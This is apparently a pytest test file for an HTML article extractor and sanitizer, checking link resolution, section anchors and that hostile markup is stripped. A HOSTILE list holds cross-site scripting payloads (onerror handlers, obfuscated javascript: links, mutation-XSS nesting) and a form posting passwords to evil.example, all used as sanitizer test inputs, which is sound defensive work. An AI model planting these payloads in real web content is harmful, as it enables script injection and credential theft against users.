"""The HTML form, the sections, and what the content links to and shows."""

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from stages.contract.nouns import ArticleSection, Image, Link
from stages.extraction.article import extract_html
from stages.extraction.markup import ATTRIBUTES, TAGS, sanitized
from stages.extraction.plain import extract_text

URL = "https://water.example/guide/locks.html"
PROSE = "The old lock was opened again on Monday, after two years of repairs that cost more than planned. " * 3


def page(content: str, head: str = "") -> str:
    paragraphs = "".join(f"<p>{PROSE}</p>" for _ in range(4))
    return f"<html><head>{head}</head><body><article><h1>Locks</h1>{paragraphs}{content}</article></body></html>"


def test_addresses_are_absolute_in_every_form():
    found = extract_html(page(f'<p>{PROSE}<a href="../sluice">sluices</a> <img src="/gate.jpg" alt="A gate"></p>'), URL)

    assert '<a href="https://water.example/sluice" rel="nofollow noopener noreferrer">sluices</a>' in found.html
    assert '<img src="https://water.example/gate.jpg" alt="A gate">' in found.html
    assert "[sluices](https://water.example/sluice)" in found.markdown
    assert found.links == (Link(url="https://water.example/sluice", text="sluices"),)
    assert found.images == (Image(url="https://water.example/gate.jpg", alt="A gate"),)


def test_base_element_counts():
    found = extract_html(page(f'<p>{PROSE}<a href="x">gates</a>', head='<base href="https://cdn.example/a/">'), URL)

    assert [link.url for link in found.links] == ["https://cdn.example/a/x"]


def test_image_that_waits_for_scripts_is_shown():
    found = extract_html(
        page(f'<p>{PROSE}<img src="data:image/gif;base64,R0" data-src="/gate.jpg" alt="A gate"></p>'), URL
    )

    assert found.images == (Image(url="https://water.example/gate.jpg", alt="A gate"),)


@pytest.mark.parametrize("kind", ["html", "markdown"])
def test_sections_begin_where_they_say(kind):
    if kind == "html":
        found = extract_html(page(f"<h2>Gates &amp; sills</h2><p>{PROSE}</p><h3>Gates, sills</h3><p>{PROSE}</p>"), URL)
    else:
        found = extract_text(f"Intro.\n\n## Gates & sills\n\n{PROSE}\n\n### Gates, sills\n\n{PROSE}", "markdown")

    (first, second) = found.sections[-2:]
    assert (first.heading, first.level, first.anchor) == ("Gates & sills", 2, "gates-sills")
    assert (second.heading, second.level, second.anchor) == ("Gates, sills", 3, "gates-sills-2")
    for section in found.sections:
        assert found.text[section.text_start :].startswith(section.heading)
        assert found.markdown[section.markdown_start :].startswith("#" * section.level + " ")
        assert f'<h{section.level} id="{section.anchor}">' in found.html


def test_heading_inside_a_list_is_no_section():
    found = extract_text("- # Gate\n- sill\n\n# Lock\n\nText.", "markdown")

    assert found.sections == (ArticleSection(heading="Lock", level=1, anchor="lock", text_start=15, markdown_start=17),)


def test_plain_text_as_html():
    assert (
        extract_text("A <b>\nlock\n\nopens & shuts", "text").html
        == "<p>A &lt;b&gt;<br>lock</p>\n<p>opens &amp; shuts</p>"
    )


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<p style="position:fixed;inset:0" class="x" id="location">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "<object data=x></object><embed src=x><link rel=stylesheet href=x>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_is_left(hostile):
    for html in (sanitized(hostile), extract_html(page(f"<p>{PROSE}{hostile}</p>"), URL).html):
        only_allowed(html)


@settings(deadline=None)
@example(["<h1 id=x>", "<table>", "<h1 id=x>"])
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<p>", "</p>", "<table>", "<td>", "<h1 id=x>", "text", "<a href=//x>"]), max_size=8
    )
)
def test_any_mixture_is_safe_and_stays_what_it_is(parts):
    once = sanitized("".join(parts))

    only_allowed(once)
    assert sanitized(once) == once


def only_allowed(html: str) -> None:
    """Judged by another parser than the one that sanitizes."""
    root = lxml.html.fragment_fromstring(html, create_parent="root")
    for element in root.iterdescendants():
        assert element.tag in TAGS, html
        allowed = set(ATTRIBUTES.get(str(element.tag), ())) | ({"rel"} if element.tag == "a" else set())
        assert set(element.keys()) <= allowed, html
        for name in ("href", "src"):
            assert (element.get(name) or "https:").lower().startswith(("http:", "https:", "mailto:")), html


def test_long_headings_that_are_alike_get_anchors_of_their_own():
    heading = f"<h2>{'very ' * 20}long</h2><p>{PROSE}</p>"

    anchors = [section.anchor for section in extract_html(page(heading * 3), URL).sections]

    assert len(set(anchors)) == len(anchors) == 4


def test_no_two_sections_share_an_anchor():
    found = extract_text(
        "\n\n".join(f"# {words}\n\nText." for words in ("A", "A", "A 2", "A-2", "?", "!", "A")), "markdown"
    )

    anchors = [section.anchor for section in found.sections]
    assert len(set(anchors)) == len(anchors) == 7
    assert anchors[:2] == ["a", "a-2"]
